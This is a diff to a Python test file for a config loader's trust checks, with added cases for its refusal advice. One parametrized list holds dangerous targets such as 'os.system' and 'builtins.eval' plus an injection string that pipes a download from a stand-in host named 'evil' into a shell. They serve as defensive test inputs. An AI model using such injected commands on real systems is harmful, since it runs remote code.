@@ -110,6 +110,11 @@ def test_trust_means_a_package_and_no_prefix(mylab):
         assert 'add trust=[mylab] (in Python: trust=["mylab"])' in refusal({"_target_": target}, trust=["mylab.nets"])
 
 
+def test_the_advice_keeps_the_packages_that_are_trusted_already(mylab):
+    advice = 'add trust=[other,mylab] (in Python: trust=["other", "mylab"])'
+    assert advice in refusal({"_target_": "mylab.Net"}, trust=["other", "mylab.losses"])
+
+
 @pytest.mark.parametrize(
     "target",
     [
@@ -133,7 +138,9 @@ def test_a_trusted_name_that_cannot_be_imported_is_one_line(mylab):
     assert "in the folder that holds that package" in refusal({"_target_": "nolab.Net"}, trust=["nolab"])
 
 
-@pytest.mark.parametrize("target", ["os.system", "builtins.eval", "x];curl evil|sh;.Net", "mylab\n.Net", "a b.c"])
+@pytest.mark.parametrize(
+    "target", ["os.system", "torch.hub.load", "builtins.eval", "x];curl evil|sh;.Net", "mylab\n.Net", "a b.c"]
+)
 def test_no_advice_to_trust_what_is_no_package_of_a_users(target):
     assert "trust" not in refusal({"_target_": target}).partition("expected")[2]
 
